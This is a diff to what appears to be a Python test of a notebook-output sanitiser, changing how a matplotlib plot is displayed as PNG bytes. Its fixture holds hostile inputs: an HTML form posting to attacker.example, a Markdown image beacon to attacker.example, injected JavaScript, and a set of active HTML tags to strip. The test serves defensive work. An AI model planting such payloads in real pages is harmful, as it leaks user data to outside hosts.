@@ -29,9 +29,14 @@ HOSTILE = (
     '<form action="http://attacker.example/post"><input name="q"></form>'
 )
 BODY = f"""
+import io
+
+import matplotlib
 import matplotlib.pyplot as plt
 import pandas as pd
-from IPython.display import HTML, Javascript, Markdown, display
+from IPython.display import HTML, Image, Javascript, Markdown, display
+
+matplotlib.use("Agg")
 
 display(HTML({HOSTILE!r}))
 display(Markdown("![leak](http://attacker.example/md.png) and **bold**"))
@@ -39,7 +44,9 @@ display(Javascript("document.title = 'ran'"))
 display(pd.DataFrame({{"alcohol": [13.2, 12.1], "label": ["red", "white"]}}))
 figure, axes = plt.subplots()
 axes.plot([1, 2, 3], [3, 1, 2])
-display(figure)
+png = io.BytesIO()
+figure.savefig(png, format="png")  # a plot as any backend hands it over: image/png
+display(Image(data=png.getvalue(), format="png"))
 """
 ACTIVE_TAGS = {"script", "iframe", "frame", "form", "input", "link", "object", "embed", "base"}
 
